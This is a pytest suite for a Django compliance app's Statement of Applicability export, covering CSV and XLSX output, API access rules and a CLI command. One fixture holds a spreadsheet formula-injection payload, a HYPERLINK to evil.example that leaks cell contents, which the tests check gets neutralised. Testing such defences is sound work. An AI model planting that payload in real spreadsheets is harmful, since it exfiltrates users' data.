"""The Statement of Applicability export, read back the way an auditor's spreadsheet would."""

import csv
import io
import re

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from openpyxl import load_workbook

from aims.compliance.exports import soa_export
from aims.compliance.services import compliance_item_update
from aims.core.errors import ValidationError

HEADER = ["Control", "Title", "Domain", "Applicable", "Reason for inclusion", "Justification",
          "Implementation status", "Owner", "Implementation notes", "Last reviewed",
          "Linked risks"]
WIDTHS = {"A": 10, "B": 40, "C": 30, "D": 12, "E": 22, "F": 60, "G": 22, "H": 28, "I": 60,
          "J": 14, "K": 40}
EXCLUSION = "We do not develop AI systems in-house; all AI is procured as SaaS, covered by A.10.3."
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def xlsx_rows(ws) -> list[list]:
    return [["" if v is None else v for v in row] for row in ws.iter_rows(values_only=True)]


@pytest.fixture
def decided(ctx, members):
    """One included, one excluded, one formula-looking control; the rest undecided."""
    compliance_item_update(ctx=ctx, ref="A.2.2", version=1, data={
        "applicable": True, "inclusion_reason": "legal", "status": "implemented",
        "owner": members["admin"].pk, "notes": "Board-approved AI policy, DOC-12.",
        "last_reviewed": "2026-03-01"})
    compliance_item_update(ctx=ctx, ref="A.6.1.2", version=1,
                           data={"applicable": False, "justification": EXCLUSION})
    compliance_item_update(ctx=ctx, ref="A.7.4", version=1, data={
        "notes": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'})
    return ctx


def by_ref(rows: list[list]) -> dict[str, dict]:
    return {r[0]: dict(zip(HEADER, r, strict=True)) for r in rows[1:]}


@pytest.mark.django_db
class TestCsv:
    def test_header_and_38_rows_in_document_order(self, decided):
        content, content_type, name = soa_export(ctx=decided, fmt="csv")
        rows = read_csv(content)
        assert rows[0] == HEADER
        assert len(rows) == 39
        refs = [r[0] for r in rows[1:]]
        assert refs[0] == "A.2.2"
        assert refs[-1] == "A.10.4"
        assert refs.index("A.6.2.8") < refs.index("A.7.2") < refs.index("A.10.2")
        assert all(len(r) == len(HEADER) for r in rows)
        assert content_type == "text/csv; charset=utf-8"
        assert re.fullmatch(r"acme-soa-\d{8}\.csv", name)

    def test_decisions_are_in_their_rows(self, decided, members):
        rows = by_ref(read_csv(soa_export(ctx=decided, fmt="csv")[0]))
        assert rows["A.2.2"] == {
            "Control": "A.2.2", "Title": "AI policy", "Domain": "A.2 Policies related to AI",
            "Applicable": "Yes", "Reason for inclusion": "Legal or regulatory",
            "Justification": "", "Implementation status": "Implemented",
            "Owner": members["admin"].display_name,
            "Implementation notes": "Board-approved AI policy, DOC-12.",
            "Last reviewed": "2026-03-01", "Linked risks": "",
        }
        excluded = rows["A.6.1.2"]
        assert (excluded["Applicable"], excluded["Justification"]) == ("No", EXCLUSION)
        assert excluded["Reason for inclusion"] == ""
        undecided = rows["A.10.4"]
        assert (undecided["Applicable"], undecided["Implementation status"]) == (
            "Not decided", "Not started")

    def test_formula_is_neutralised(self, decided):
        notes = by_ref(read_csv(soa_export(ctx=decided, fmt="csv")[0]))["A.7.4"][
            "Implementation notes"]
        assert notes == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

    def test_only_this_orgs_decisions(self, decided, other_org):
        from aims.testing.factories import ctx_for

        theirs = other_org.memberships.get().user
        rows = by_ref(read_csv(soa_export(ctx=ctx_for(other_org, theirs), fmt="csv")[0]))
        assert len(rows) == 38
        assert {r["Applicable"] for r in rows.values()} == {"Not decided"}

    def test_unknown_format_is_a_validation_error(self, ctx):
        with pytest.raises(ValidationError) as exc:
            soa_export(ctx=ctx, fmt="pdf")
        assert "format" in exc.value.errors


@pytest.mark.django_db
class TestXlsx:
    def test_header_rows_and_order(self, decided):
        content, content_type, name = soa_export(ctx=decided, fmt="xlsx")
        assert content_type == XLSX
        assert re.fullmatch(r"acme-soa-\d{8}\.xlsx", name)
        ws = read_xlsx(content)
        assert ws.title == "Statement of Applicability"
        rows = xlsx_rows(ws)
        assert rows[0] == HEADER
        assert len(rows) == 39
        assert rows[1][0] == "A.2.2"
        assert rows[-1][0] == "A.10.4"

    def test_same_content_as_csv(self, decided):
        csv_rows = read_csv(soa_export(ctx=decided, fmt="csv")[0])
        ws_rows = xlsx_rows(read_xlsx(soa_export(ctx=decided, fmt="xlsx")[0]))
        assert [[str(v) for v in r] for r in ws_rows] == csv_rows

    def test_excluded_justification(self, decided):
        rows = by_ref(xlsx_rows(read_xlsx(soa_export(ctx=decided, fmt="xlsx")[0])))
        assert rows["A.6.1.2"]["Justification"] == EXCLUSION
        assert rows["A.6.1.2"]["Applicable"] == "No"

    def test_frozen_header_widths_and_filter(self, decided):
        ws = read_xlsx(soa_export(ctx=decided, fmt="xlsx")[0])
        assert ws.freeze_panes == "A2"
        assert {c: ws.column_dimensions[c].width for c in WIDTHS} == WIDTHS
        assert ws["A1"].font.bold
        assert ws.auto_filter.ref == "A1:K39"
        assert ws["F2"].alignment.wrap_text  # long text wraps

    def test_formula_is_a_string_not_a_formula(self, decided):
        ws = read_xlsx(soa_export(ctx=decided, fmt="xlsx")[0])
        cell = next(r[8] for r in ws.iter_rows(min_row=2) if r[0].value == "A.7.4")
        assert cell.data_type == "s"
        assert cell.value.startswith("'=")


@pytest.mark.django_db
class TestApi:
    @pytest.mark.parametrize(("fmt", "content_type"), [
        ("xlsx", XLSX), ("csv", "text/csv; charset=utf-8"),
    ])
    def test_download(self, api, decided, fmt, content_type):
        r = api.get("/api/v1/orgs/acme/soa/export", {"format": fmt})
        assert r.status_code == 200
        assert r["Content-Type"] == content_type
        assert re.fullmatch(rf'attachment; filename="acme-soa-\d{{8}}\.{fmt}"',
                            r["Content-Disposition"])
        rows = read_csv(r.content) if fmt == "csv" else xlsx_rows(read_xlsx(r.content))
        assert len(rows) == 39

    def test_default_is_xlsx(self, api):
        assert api.get("/api/v1/orgs/acme/soa/export")["Content-Type"] == XLSX

    def test_unknown_format_is_422(self, api):
        assert api.get("/api/v1/orgs/acme/soa/export", {"format": "pdf"}).status_code == 422

    @pytest.mark.parametrize("role", ["viewer", "auditor"])
    def test_readers_may_export(self, api_client_for, members, role):
        r = api_client_for(members[role]).get("/api/v1/orgs/acme/soa/export", {"format": "csv"})
        assert r.status_code == 200

    def test_outsiders_get_404_and_anonymous_401(self, api_client_for, other_org):
        outsider = other_org.memberships.get().user
        assert api_client_for(outsider).get("/api/v1/orgs/acme/soa/export").status_code == 404
        assert Client().get("/api/v1/orgs/acme/soa/export").status_code == 401


@pytest.mark.django_db
class TestCommand:
    def test_writes_an_xlsx_file(self, decided, tmp_path):
        path = tmp_path / "soa.xlsx"
        err = io.StringIO()
        call_command("export", "soa", "--org", "acme", "--format", "xlsx", "-o", str(path),
                     stderr=err)
        assert f"Wrote {path}" in err.getvalue()
        ws = load_workbook(path).active
        rows = xlsx_rows(ws)
        assert rows[0] == HEADER
        assert len(rows) == 39
        assert by_ref(rows)["A.6.1.2"]["Justification"] == EXCLUSION

    def test_writes_csv_to_stdout(self, decided):
        out = io.StringIO()
        call_command("export", "soa", "--org", "acme", "--format", "csv", "-o", "-", stdout=out)
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        assert rows[0] == HEADER
        assert len([r for r in rows if r]) == 39

    def test_unknown_org(self, db, tmp_path):
        with pytest.raises(CommandError, match="nope"):
            call_command("export", "soa", "--org", "nope", "-o", str(tmp_path / "x.xlsx"))
        assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.django_db
def test_linked_risks_are_in_the_export(ctx):
    import csv
    import io

    from aims.compliance.exports import soa_export
    from aims.risks.services import risk_create

    risk = risk_create(ctx=ctx, data={
        "title": "Drift hides rising fraud", "category": "drift", "inherent_likelihood": 3,
        "inherent_impact": 4, "controls": ["A.6.2.6"]})
    content, _, _ = soa_export(ctx=ctx, fmt="csv")
    rows = {r["Control"]: r for r in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))}
    assert rows["A.6.2.6"]["Linked risks"] == f"{risk.ref} Drift hides rising fraud"
    assert rows["A.6.2.6"]["Applicable"] == "Yes"
    assert rows["A.6.2.6"]["Reason for inclusion"] == "Risk treatment"


@pytest.mark.django_db
def test_control_characters_do_not_break_the_spreadsheet(ctx):
    import io

    from openpyxl import load_workbook

    from aims.compliance.exports import soa_export
    from aims.compliance.services import compliance_item_update

    compliance_item_update(ctx=ctx, ref="A.7.4", version=1,
                           data={"notes": "bell\x07 and\x01 tab-start", "applicable": None})
    content, _, _ = soa_export(ctx=ctx, fmt="xlsx")
    ws = load_workbook(io.BytesIO(content)).active
    notes = {row[0].value: row[8].value for row in ws.iter_rows(min_row=2)}
    assert notes["A.7.4"] == "bell and tab-start"
